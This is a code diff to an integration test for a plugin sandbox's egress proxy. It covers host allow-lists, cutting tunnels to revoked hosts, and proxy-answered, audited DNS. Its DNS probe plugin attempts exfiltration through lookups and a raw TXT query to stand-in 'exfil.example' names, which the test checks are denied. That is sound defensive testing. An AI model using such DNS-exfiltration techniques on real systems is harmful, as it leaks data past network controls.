@@ -1,19 +1,61 @@
 import { mkdirSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
+import { PassThrough } from 'node:stream';
 import type Dockerode from 'dockerode';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { ignoreGone } from '../../src/engine/cleanup.js';
 import { ownerLabels } from '../../src/labels.js';
 import { silentLogger } from '../../src/log.js';
+import { loadManifest } from '../../src/manifest/index.js';
+import type { LoadedManifest } from '../../src/manifest/types.js';
 import type { AuditEntry } from '../../src/permissions/audit-log.js';
 import { python } from '../../src/runtimes/python.js';
-import { Egress, type EgressDecision } from '../../src/sandbox/egress.js';
-import { docker, instance, report, runCaptured, tempDir } from './support.js';
+import { containerSpec } from '../../src/sandbox/container-spec.js';
+import { Egress, type EgressAttachment, type EgressDecision } from '../../src/sandbox/egress.js';
+import { pluginSeccompProfile } from '../../src/sandbox/seccomp.js';
+import { docker, instance, report, runCaptured, sleep, tempDir } from './support.js';
+
+/**
+ * A target: an HTTP server on 8080 and a TCP echo server on 7000 that prints `open <peer>`
+ * and `closed <peer>` for each connection, so a test sees the upstream side of a tunnel end.
+ */
+const TARGET = `
+import http.server, socketserver, threading
+class Echo(socketserver.BaseRequestHandler):
+    def handle(self):
+        print("open", self.client_address[0], flush=True)
+        try:
+            while True:
+                data = self.request.recv(4096)
+                if not data:
+                    break
+                self.request.sendall(data)
+        except OSError:
+            pass
+        print("closed", self.client_address[0], flush=True)
+class Server(socketserver.ThreadingTCPServer):
+    daemon_threads = True
+    allow_reuse_address = True
+threading.Thread(target=Server(("0.0.0.0", 7000), Echo).serve_forever, daemon=True).start()
+http.server.ThreadingHTTPServer(("0.0.0.0", 8080), http.server.SimpleHTTPRequestHandler).serve_forever()
+`;
+
+/** Poll `probe` every 20 ms until it returns a value, at most `ms`. */
+async function waitFor<T>(what: string, ms: number, probe: () => T | undefined | Promise<T | undefined>): Promise<T> {
+  const end = Date.now() + ms;
+  for (;;) {
+    const v = await probe();
+    if (v !== undefined) return v;
+    if (Date.now() > end) throw new Error(`${what}: not within ${ms} ms`);
+    await sleep(20);
+  }
+}
 
 /**
  * The allow-list, end to end, with only test-made targets: an internal network holding two
- * HTTP servers, which the egress proxy joins. The plugin may reach one of them, through the
- * proxy, at most two connections at a time; nothing else.
+ * servers, which the egress proxy joins. The plugin may reach one of them, through the
+ * proxy, at most two connections at a time; nothing else. Revoking a host cuts the tunnels
+ * open to it; DNS queries are answered by the proxy alone, and audited.
  */
 describe('network allow-list through the egress proxy', () => {
   let network: Dockerode.Network;
@@ -33,7 +75,7 @@ describe('network allow-list through the egress proxy', () => {
       const c = await d.createContainer({
         name,
         Image: python.tag,
-        Cmd: ['python3', '-m', 'http.server', '8080', '--bind', '0.0.0.0'],
+        Cmd: ['python3', '-u', '-c', TARGET],
         Labels: labels,
         HostConfig: { NetworkMode: network.id, CapDrop: ['ALL'], ReadonlyRootfs: true, Init: true },
       });
@@ -51,25 +93,33 @@ describe('network allow-list through the egress proxy', () => {
     await ignoreGone(network?.remove());
   });
 
-  function probePlugin(): string {
-    const dir = path.join(tempDir('lm-egress-probe-'), 'egress-probe');
+  /** A Python plugin folder with network capabilities for `hosts`. */
+  function networkPlugin(id: string, hosts: string[], maxNetworkConnections: number, main: string): string {
+    const dir = path.join(tempDir(`lm-${id}-`), id);
     mkdirSync(dir);
     writeFileSync(
       path.join(dir, 'plugin.yaml'),
-      `id: egress-probe
+      `id: ${id}
 version: 1.0.0
 runtime: python
 entrypoint: main.py
 capabilities:
   - id: web
     scope: network
-    hosts: ["${allowed}:8080"]
+    hosts: ${JSON.stringify(hosts)}
 resources:
-  maxNetworkConnections: 2
+  maxNetworkConnections: ${maxNetworkConnections}
 `,
     );
-    writeFileSync(
-      path.join(dir, 'main.py'),
+    writeFileSync(path.join(dir, 'main.py'), main);
+    return dir;
+  }
+
+  function probePlugin(): string {
+    return networkPlugin(
+      'egress-probe',
+      [`${allowed}:8080`],
+      2,
       `import errno, json, os, socket, urllib.error, urllib.request, http.client
 from urllib.parse import urlsplit
 ALLOWED, OTHER = ${JSON.stringify(allowed)}, ${JSON.stringify(other)}
@@ -121,7 +171,6 @@ out["concurrent"] = statuses
 print(json.dumps(out))
 `,
     );
-    return dir;
   }
 
   it('reaches the allowed host only, through the proxy, within its connection limit', async () => {
@@ -148,6 +197,183 @@ print(json.dumps(out))
     expect(mine).toContainEqual(expect.objectContaining({ host: allowed, port: 8081, result: 'denied', reason: 'not-in-allow-list' }));
     expect(mine).toContainEqual(expect.objectContaining({ host: allowed, result: 'denied', reason: 'max-connections' }));
     expect(audit).toContainEqual(expect.objectContaining({ who: 'egress-probe', action: 'network', resource: `${other}:8080`, result: 'denied', code: 'LM_EGRESS_DENIED' }));
+  });
+
+  /**
+   * A plugin that opens two CONNECT tunnels to the echo servers, then waits for the one to
+   * `other` to end and reports when (its clock is the host's), checks the other tunnel still
+   * echoes and that new tunnels follow the new list, and holds the first tunnel open.
+   */
+  const tunnelClient = () => `
+import json, os, socket, sys, time
+from urllib.parse import urlsplit
+ALLOWED, OTHER = ${JSON.stringify(allowed)}, ${JSON.stringify(other)}
+proxy = urlsplit(os.environ["HTTP_PROXY"])
+
+def say(**kw):
+    print(json.dumps(kw), flush=True)
+
+def tunnel(host):
+    s = socket.create_connection((proxy.hostname, proxy.port), timeout=10)
+    s.sendall(f"CONNECT {host}:7000 HTTP/1.1\\r\\nHost: {host}:7000\\r\\n\\r\\n".encode())
+    head = b""
+    while b"\\r\\n\\r\\n" not in head:
+        chunk = s.recv(1024)
+        if not chunk:
+            break
+        head += chunk
+    return s, int(head.split(b" ")[1]) if head else 0
+
+def echo(s, word):
+    s.sendall(word)
+    return s.recv(64).decode()
+
+a, a_status = tunnel(ALLOWED)
+o, o_status = tunnel(OTHER)
+say(ready=True, statuses=[a_status, o_status], echoes=[echo(a, b"a1"), echo(o, b"o1")])
+o.settimeout(30)
+try:
+    how = "eof" if o.recv(64) == b"" else "data"
+except socket.timeout:
+    how = "timeout"
+except OSError:
+    how = "reset"
+say(closed=how, t=time.time() * 1000)
+a.settimeout(5)
+try:
+    still = echo(a, b"a2")
+except OSError as e:
+    still = type(e).__name__
+n, n_status = tunnel(OTHER)
+n.close()
+m, m_status = tunnel(ALLOWED)
+m.close()
+say(done=True, allowedAfter=still, newOther=n_status, newAllowed=m_status)
+time.sleep(60)  # holds the tunnel to ALLOWED open; the test removes the container sooner
+`;
+
+  /** Start the plugin's container as the controller would, on its network; its JSON lines collect in the returned array. */
+  async function startPlugin(loaded: LoadedManifest, network: EgressAttachment) {
+    const d = await docker();
+    const seccompProfile = pluginSeccompProfile(true, loaded.manifest.security.syscalls);
+    const container = await d.createContainer(containerSpec({ loaded, runtime: python, instance: instance(), network, seccompProfile }));
+    const lines: Record<string, unknown>[] = [];
+    const stream = await container.attach({ stream: true, stdout: true, stderr: true });
+    const out = new PassThrough();
+    d.modem.demuxStream(stream, out, process.stderr);
+    let buf = '';
+    out.on('data', (c: Buffer) => {
+      buf += c.toString();
+      for (let nl = buf.indexOf('\n'); nl >= 0; nl = buf.indexOf('\n')) {
+        const line = buf.slice(0, nl);
+        buf = buf.slice(nl + 1);
+        if (line.startsWith('{')) lines.push(JSON.parse(line) as Record<string, unknown>);
+      }
+    });
+    await container.start();
+    return { container, lines };
+  }
+
+  /** The echo server's count of connections open now, from its `open`/`closed` lines. */
+  async function echoOpen(server: Dockerode.Container): Promise<number> {
+    const text = (await server.logs({ stdout: true, stderr: false })).toString();
+    return (text.match(/\bopen /g) ?? []).length - (text.match(/\bclosed /g) ?? []).length;
+  }
+
+  it('cuts the open tunnels to a revoked host at once, and keeps the others; detaching cuts the rest', async () => {
+    const d = await docker();
+    const key = 'cut-probe';
+    const loaded = loadManifest(networkPlugin(key, [`${allowed}:7000`, `${other}:7000`], 4, tunnelClient()));
+    const attachment = await egress.attach(key, loaded.manifest);
+    let client: Dockerode.Container | undefined;
+    let detached = false;
+    try {
+      const started = await startPlugin(loaded, attachment);
+      client = started.container;
+      const ready = await waitFor('tunnels open', 20_000, () => started.lines.find((l) => l.ready));
+      expect(ready).toMatchObject({ statuses: [200, 200], echoes: ['a1', 'o1'] });
+
+      const t0 = Date.now();
+      expect(await egress.revokeHost(key, `${other}:7000`)).toBe(true);
+      const t1 = Date.now();
+      // The cut is reported before revokeHost resolves: it waits for the proxy's reload.
+      expect(decisions).toContainEqual(expect.objectContaining({ plugin: key, host: other, port: 7000, method: 'CONNECT', result: 'cut', reason: 'revoked' }));
+      expect(audit).toContainEqual({ who: key, action: 'network', resource: `${other}:7000`, result: 'cut', reason: 'revoked', code: 'LM_EGRESS_DENIED' });
+      const closed = await waitFor('the revoked tunnel ends', 5_000, () => started.lines.find((l) => l.closed));
+      const tEof = closed.t as number;
+      console.log(`egress cut: revokeHost took ${t1 - t0} ms; the plugin saw ${String(closed.closed)} ${(tEof - t0).toFixed(1)} ms after the call, ${(tEof - t1).toFixed(1)} ms after it resolved`);
+      expect(closed.closed).toMatch(/^(eof|reset)$/);
+      expect(tEof - t1).toBeLessThan(2_000);
+
+      const done = await waitFor('the client checks', 20_000, () => started.lines.find((l) => l.done));
+      expect(done).toMatchObject({ allowedAfter: 'a2', newOther: 403, newAllowed: 200 });
+      const [allowedServer, otherServer] = servers as [Dockerode.Container, Dockerode.Container];
+      expect(await echoOpen(otherServer)).toBe(0);
+      expect(await echoOpen(allowedServer)).toBe(1);
+
+      // A plugin gone without the proxy noticing (here: its network unplugged under it):
+      // detaching still ends its connection upstream.
+      await d.getNetwork(attachment.network).disconnect({ Container: client.id, Force: true });
+      detached = true;
+      await egress.detach(key);
+      expect(decisions).toContainEqual(expect.objectContaining({ plugin: key, host: allowed, port: 7000, result: 'cut', reason: 'detached' }));
+      expect(audit).toContainEqual({ who: key, action: 'network', resource: `${allowed}:7000`, result: 'cut', reason: 'detached' });
+      await waitFor('the upstream side of the tunnel ends', 5_000, async () => ((await echoOpen(allowedServer)) === 0 ? true : undefined));
+    } finally {
+      if (client) await ignoreGone(client.remove({ force: true }));
+      if (!detached) await egress.detach(key);
+    }
+  });
+
+  it('answers DNS itself, NXDOMAIN for every name, and audits each query', async () => {
+    const main = `import json, os, socket, struct, subprocess, sys, time
+from urllib.parse import urlsplit
+proxy = urlsplit(os.environ["HTTP_PROXY"]).hostname
+out = {}
+
+def lookup(name):
+    t = time.monotonic()
+    try:
+        socket.getaddrinfo(name, 443)
+        res = "resolved"
+    except socket.gaierror as e:
+        res = {socket.EAI_NONAME: "EAI_NONAME", socket.EAI_AGAIN: "EAI_AGAIN"}.get(e.errno, str(e.errno))
+    return [res, round((time.monotonic() - t) * 1000)]
+
+out["udp"] = lookup("secret-data.exfil.example")
+# Over TCP: glibc asks the engine's resolver over TCP, which asks the proxy over TCP.
+tcp = subprocess.run([sys.executable, "-c", "import socket\\ntry:\\n    socket.getaddrinfo('tcp-data.exfil.example', 443)\\n    print('resolved')\\nexcept socket.gaierror as e:\\n    print(e.errno)"],
+                     env={**os.environ, "RES_OPTIONS": "use-vc"}, capture_output=True, text=True, timeout=20)
+out["tcp"] = tcp.stdout.strip()
+# Straight to the proxy's port 53, past the engine's resolver: a TXT query.
+q = struct.pack("!HHHHHH", 0x4c4d, 0x0100, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l for l in [b"direct", b"exfil", b"example"]) + b"\\0" + struct.pack("!HH", 16, 1)
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.settimeout(5)
+s.sendto(q, (proxy, 53))
+r = s.recv(512)
+ident, flags, qd, an, ns, ar = struct.unpack("!HHHHHH", r[:12])
+out["direct"] = {"id": ident, "rcode": flags & 15, "qr": flags >> 15, "answers": an + ns + ar}
+print(json.dumps(out))
+`;
+    const r = await runCaptured(networkPlugin('dns-probe', [`${allowed}:8080`], 2, main), { egress });
+    expect(r.exitCode, r.stderr).toBe(0);
+    const p = report<Record<string, unknown>>(r.stdout);
+    // NXDOMAIN from the proxy, at once: not a time-out waiting for a server that is not there.
+    expect(p.udp).toEqual(['EAI_NONAME', expect.any(Number)]);
+    expect((p.udp as [string, number])[1]).toBeLessThan(2_000);
+    expect(p.tcp).toBe(String(-2)); // EAI_NONAME
+    expect(p.direct).toEqual({ id: 0x4c4d, rcode: 3, qr: 1, answers: 0 });
+
+    const mine = decisions.filter((x) => x.plugin === 'dns-probe' && x.method === 'DNS');
+    for (const [name, qtype] of [
+      ['secret-data.exfil.example', 'A'],
+      ['tcp-data.exfil.example', 'A'],
+      ['direct.exfil.example', 'TXT'],
+    ]) {
+      expect(mine).toContainEqual(expect.objectContaining({ host: name, qtype, result: 'denied', reason: 'no-dns' }));
+    }
+    expect(mine).toContainEqual(expect.objectContaining({ host: 'tcp-data.exfil.example', transport: 'tcp' }));
+    expect(audit).toContainEqual({ who: 'dns-probe', action: 'dns', resource: 'secret-data.exfil.example', result: 'denied', reason: 'no-dns (A)', code: 'LM_EGRESS_DENIED' });
   });
 
   it('removes the plugin network after the run', async () => {
